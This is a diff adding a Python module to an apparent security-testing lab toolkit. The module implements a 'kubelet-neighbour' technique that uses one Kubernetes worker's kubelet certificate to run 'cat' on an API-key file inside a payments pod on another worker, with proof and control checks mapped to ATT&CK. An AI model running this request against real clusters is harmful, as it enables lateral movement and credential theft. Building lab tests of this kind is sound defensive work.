@@ -1,0 +1,89 @@
+"""From one worker, run a command in a container of another, through that one's kubelet.
+
+A kubelet's certificate proves that its bearer is a kubelet. A kubelet that asks no more than
+that lets every worker into the containers of every other.
+"""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+from labkit.errors import ProbeError
+from labkit.model import View
+from labkit.model.rights import Action, known_to_kubelet, may_at_kubelet
+from labkit.techniques._access import held_at, options_at
+from labkit.techniques._ask import ask
+from labkit.techniques._base import ROOT_ON_WORKER, SECRETS, Prediction, Technique
+from labkit.techniques._kubelet import as_apiserver, kubelet_url, patiently
+from labkit.techniques._reach import Answer
+from labkit.techniques._secret import true_secret
+from labkit.techniques._verdict import Verdict
+
+if TYPE_CHECKING:
+    from labkit.lab import Lab
+
+__all__ = ["TECHNIQUE"]
+
+WANTED = ("payments", "card-processor", "api-key")
+KUBELET = "kubelet@worker2"
+CHANNEL = f"kube-apiserver@* -> {KUBELET}:*"
+FILE = "/run/secrets/card-processor/api-key"
+PATH = f"/run/payments/card-processor/card-processor?cmd=cat%20{FILE}"
+#: As what the kubelet asks the apiserver about it.
+ACTION = Action("create", "nodes/proxy", name="worker2")
+
+
+def predict(view: View, foothold: str) -> Prediction:
+    """Say what the model says: whom the kubelet takes the caller for, and what he may do."""
+    env, kubelet = view.env, view.env.component(KUBELET)
+    caller = known_to_kubelet(env, kubelet, held_at(env, foothold))
+    claim = may_at_kubelet(env, kubelet, caller, ACTION)
+    if claim.value != "allowed":
+        return Prediction(False, (str(claim),))
+    return Prediction(True, (str(caller.claim), str(claim)))
+
+
+def execute(lab: Lab, foothold: str) -> Verdict:
+    """Read a file in the pod payments/card-processor, which runs on the other worker."""
+    secret = true_secret(lab, *WANTED)
+
+    def proof(answer: Answer) -> str:
+        if not secret.found_in(answer.body):
+            raise ProbeError("the kubelet answered, but not with the container's file")
+        return f"ran cat in payments/card-processor, and read: {secret.proof}"
+
+    def control() -> str:
+        proof(as_apiserver(lab, "POST", PATH, CHANNEL))
+        return "with the apiserver's certificate, the same request runs the command"
+
+    return patiently(
+        lambda: ask(
+            lab,
+            TECHNIQUE.name,
+            foothold,
+            kubelet_url(lab, PATH, CHANNEL),
+            method="POST",
+            options=options_at(lab.environment, foothold),
+            proof=proof,
+            control=control,
+        )
+    )
+
+
+TECHNIQUE = Technique(
+    name="kubelet-neighbour",
+    title="From one worker, get into the containers of another",
+    footholds=(ROOT_ON_WORKER,),
+    grants=(SECRETS,),
+    about=CHANNEL,
+    properties=("client_authentication", "authorization"),
+    attack=("T1609", "T1021", "T1552.004"),
+    stride=("elevation of privilege", "information disclosure"),
+    cwe=("CWE-862",),
+    sources=(
+        "https://kubernetes.io/docs/reference/access-authn-authz/kubelet-authn-authz/",
+        "https://attack.mitre.org/techniques/T1609/",
+    ),
+    predict=predict,
+    execute=execute,
+)
